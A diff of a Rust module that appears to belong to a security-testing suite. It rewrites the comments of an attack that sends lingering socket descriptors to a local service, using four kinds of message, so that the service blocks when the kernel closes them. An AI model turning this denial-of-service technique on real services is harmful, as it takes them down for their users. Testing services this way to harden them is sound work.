@@ -23,8 +23,7 @@ use crate::{
 };
 
 /// Maximum number of connections over which the attack tries to send one descriptor. An attempt
-/// fails if the service ends the session, because of an earlier message, before the descriptor is
-/// sent.
+/// fails if an earlier message made the service close the connection before the descriptor is sent.
 const ATTEMPTS_MAX: u32 = 100;
 
 /// Options of `linger`.
@@ -41,8 +40,9 @@ pub struct Options {
     seconds: f64,
 }
 
-/// Sends the descriptors with four kinds of messages: a message that needs no descriptor, a message
-/// that needs a descriptor, invalid bytes, and a message that the service never reads.
+/// Sends each descriptor with one message. Four kinds of messages alternate: 0 is a message that
+/// needs no descriptor, 1 is a message that needs a descriptor, 2 is invalid bytes, and 3 is a
+/// message that the service never reads.
 pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
     let nobody_reads = TcpListener::bind("127.0.0.1:0")?;
     let mut services = Vec::new();
@@ -51,9 +51,10 @@ pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
         let socket = lingering(&nobody_reads, Duration::from_secs(options.linger))?;
         let service = send_over_new_connection(target, turn % 4, socket.as_fd())?;
         sent += u32::from(service.is_some());
-        // Only the last `close` of the socket blocks. If the service has already closed its
-        // descriptor, this `drop` makes the last `close`, which blocks only this thread.
+        // Only the `close` of the last descriptor of a socket blocks. If the service has already
+        // closed its descriptor, `drop` closes the last descriptor, and blocks only the new thread.
         thread::spawn(move || drop(socket));
+        // Keep every second connection open, and close the others.
         if turn % 2 == 0 {
             services.extend(service);
         }
@@ -64,7 +65,8 @@ pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
 }
 
 /// Sends the descriptor `socket` as [`send`] does, over a new connection to the service. Returns
-/// the connection, or `None` if the service has closed each of [`ATTEMPTS_MAX`] connections first.
+/// the connection, or `None` if the descriptor could not be sent over any of [`ATTEMPTS_MAX`]
+/// connections.
 fn send_over_new_connection(
     target: &Target,
     kind: u32,
@@ -79,17 +81,18 @@ fn send_over_new_connection(
     Ok(None)
 }
 
-/// Sends the descriptor `socket` with a message of one of four kinds. Returns an error if the
-/// service has closed the connection before the descriptor is sent.
+/// Sends the descriptor `socket` with a message of the kind `kind`, a number from 0 to 3 (see
+/// [`run`]). Returns an error if the service has closed the connection before the descriptor is
+/// sent.
 fn send(service: &Service, kind: u32, socket: BorrowedFd<'_>) -> Result<(), Failure> {
     let report = new_message(message::REPORT_NOT_ACCELERATED);
     match kind {
         0 => service.send(&report, &[socket]),
         1 => service.send(&new_message(message::RESERVE), &[socket]),
         2 => service.send_bytes(b"no message", &[socket]),
-        // CONTEXT without a descriptor ends the session. The service closes the connection without
-        // reading REPORT_NOT_ACCELERATED. Within this `close`, the kernel closes the descriptor of
-        // REPORT_NOT_ACCELERATED.
+        // After CONTEXT without a descriptor, the service closes the connection without reading
+        // REPORT_NOT_ACCELERATED. The kernel closes the descriptor of the unread message within the
+        // service's `close` of the connection.
         _ => {
             service.send(&new_message(message::CONTEXT), &[])?;
             service.send(&report, &[socket])
